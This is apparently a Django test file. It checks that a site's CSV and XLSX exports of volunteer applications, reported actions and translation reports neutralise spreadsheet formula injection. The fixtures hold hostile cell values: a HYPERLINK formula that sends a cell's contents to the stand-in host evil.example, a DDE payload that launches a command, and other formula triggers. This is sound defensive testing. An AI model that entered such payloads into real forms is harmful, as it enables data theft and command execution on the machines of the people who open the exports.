"""Spreadsheet exports never carry a live formula: applications, reported actions, reports."""

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import neutralise
from mission.permissions import COORDINATORS_GROUP
from tests.campaigns.factories import SolidarityActionReportFactory
from tests.helpers import login_verified
from tests.mission.factories import VALID_ANSWERS, HowToHelpPageFactory, application_form
from tests.translations.factories import english_page, translator

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Open")'
HOSTILE = [HYPERLINK, "+1+1", "@SUM(1,1)", "-2+3", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(1,1)", "'@SUM(1,1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\n@SUM(1)", "'\n@SUM(1)"),
        ("+375 29 123-45-67", "'+375 29 123-45-67"),
        ("-5", "-5"),
        ("-12.5", "-12.5"),
        ("-0,5", "-0,5"),
        ("Olena from Kharkiv", "Olena from Kharkiv"),
        ("e-mail: a@example.org", "e-mail: a@example.org"),
        ("", ""),
        (42, 42),
        (-3, -3),
        (None, None),
    ],
)
def test_neutralise_prefixes_formula_triggers_and_keeps_plain_values(value, expected):
    assert neutralise(value) == expected


def read_csv(response):
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


def read_xlsx(response):
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()], sheet


def assert_hostile_cells_neutralised(rows, hostile=HOSTILE):
    cells = [str(cell) for row in rows for cell in row if cell is not None]
    for value in hostile:
        assert value not in cells, value
        assert "'" + value in cells, value


def assert_no_formula_cells(sheet):
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "@", "\t", "\r")), cell.value


# Applications: sent through the public form, downloaded by a coordinator.


@pytest.fixture
def coordinator(django_user_model):
    user = django_user_model.objects.create_user("coordinator", "coordinator@example.org", "correct-horse-battery")
    user.groups.add(Group.objects.get(name=COORDINATORS_GROUP))
    return user


@pytest.fixture
def hostile_application(client, site_tree):
    form = application_form(HowToHelpPageFactory(parent=site_tree.home), slug="join", title="Join the Mission")
    answers = {
        **VALID_ANSWERS,
        "your_name": HYPERLINK,
        "dates_available": "+1+1",
        "experience": "@SUM(1,1)",
        "phone": "-2+3",
    }
    assert client.post(form.url, answers).status_code == 200
    assert client.post(form.url, {**answers, "your_name": "=cmd|' /C calc'!A0", "phone": "-12.5"}).status_code == 200
    return form


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_application_export_neutralises_formulas_typed_into_the_public_form(
    client, hostile_application, coordinator, export_format
):
    login_verified(client, coordinator)

    url = reverse("wagtailforms:list_submissions", args=[hostile_application.pk])
    response = client.get(url, {"export": export_format})

    assert response.status_code == 200
    if export_format == "csv":
        rows = read_csv(response)
    else:
        rows, sheet = read_xlsx(response)
        assert_no_formula_cells(sheet)
    assert_hostile_cells_neutralised(rows)
    cells = {str(cell) for row in rows for cell in row}
    # Ordinary answers and plain negative numbers stay as typed.
    assert {"olena@example.net", "Experienced in monitoring", "-12.5"} <= cells


# Reported actions: sent through the public report form, downloaded by a moderator.


@pytest.fixture
def moderator(django_user_model):
    user = django_user_model.objects.create_user("moderator", "moderator@example.org", "correct-horse-battery")
    user.groups.add(Group.objects.get(name="Campaign moderators"))
    return user


@pytest.fixture
def hostile_reports(client, campaign_tree):
    page = campaign_tree.years[2015]
    page.report_opens = datetime.date(2015, 7, 1)
    page.save_revision().publish()
    page.refresh_from_db()
    url = page.url + page.reverse_subpage("report")
    data = {
        "country": "UA",
        "date": "2015-08-04",
        "action_type": "street",
        "link": "https://example.org/photos/",
        "contact": "reporter@example.org",
    }
    for city, description in [(HYPERLINK, "+1+1"), ("@SUM(1,1)", "-2+3"), ("Kharkiv", "=cmd|' /C calc'!A0")]:
        response = client.post(url, {**data, "city": city, "description": description})
        assert response.status_code == 302, response.content.decode()
    # One made the way the moderation tests make them, to show the plain values.
    SolidarityActionReportFactory(year_page=page, city="Warsaw", description="A picket.")


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_reported_actions_export_neutralises_formulas_and_leaves_out_the_contact(
    client, hostile_reports, moderator, export_format
):
    login_verified(client, moderator)

    index = client.get("/admin/campaign-reports/")
    response = client.get("/admin/campaign-reports/", {"export": export_format})

    assert f"export={export_format}" in index.content.decode()
    assert response.status_code == 200
    if export_format == "csv":
        rows = read_csv(response)
    else:
        rows, sheet = read_xlsx(response)
        assert_no_formula_cells(sheet)
    assert rows[0][:3] == ["Year", "Country", "City or town"]
    assert_hostile_cells_neutralised(rows)
    cells = {str(cell) for row in rows for cell in row}
    assert {"Warsaw", "A picket.", "Kharkiv", "Ukraine"} <= cells
    assert not any("reporter@example.org" in cell for cell in cells)


# The translation status report: page titles written by editors.


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_translation_status_export_neutralises_formula_titles(client, languages, export_format):
    for title in HOSTILE:
        english_page(languages.home, title=title)
    english_page(languages.home, title="Observers")
    login_verified(client, translator("be"))

    response = client.get(reverse("translations:status_report"), {"export": export_format})

    assert response.status_code == 200
    if export_format == "csv":
        rows = read_csv(response)
    else:
        rows, sheet = read_xlsx(response)
        assert_no_formula_cells(sheet)
    assert_hostile_cells_neutralised(rows)
    assert ["Observers", "standard page", "Observers", "stand-in", "stand-in", "stand-in"] in rows


# Wagtail's own reports go through the same helper.


def test_wagtail_aging_pages_report_neutralises_formula_titles(client, languages, admin_user):
    english_page(languages.home, title=HYPERLINK)
    login_verified(client, admin_user)

    response = client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"})

    rows = read_csv(response)
    assert_hostile_cells_neutralised(rows, [HYPERLINK])
